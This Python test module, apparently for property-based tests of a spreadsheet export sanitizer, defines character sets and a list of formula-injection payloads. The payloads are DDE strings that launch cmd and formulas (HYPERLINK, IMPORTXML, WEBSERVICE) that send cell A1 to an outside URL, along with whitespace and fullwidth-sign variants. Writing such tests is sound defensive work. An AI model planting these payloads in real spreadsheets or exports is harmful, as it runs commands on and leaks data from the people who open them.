"""Text as strangers type it, and what spreadsheets have been seen to run."""

from __future__ import annotations

from hypothesis import strategies as st

SIGNS = "=+-@\t\r\n'\" \u00a0\ufeff\uff1d\uff0b\uff0d\uff20"
RUNS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"
TEXTS = st.text(st.sampled_from(SIGNS + "ab1,;\x00\x0b") | st.characters(codec="utf-8"), max_size=8)

PAYLOADS = (
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("https://example.org/?x="&A1,"see")',
    '=IMPORTXML(CONCAT("https://example.org/?v=",A1),"//a")',
    '=WEBSERVICE("https://example.org/"&A1)',
    "+1+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n+1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    '"=1+1"',
    '""=1+1',
    "\x00=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "'=1+1",
)
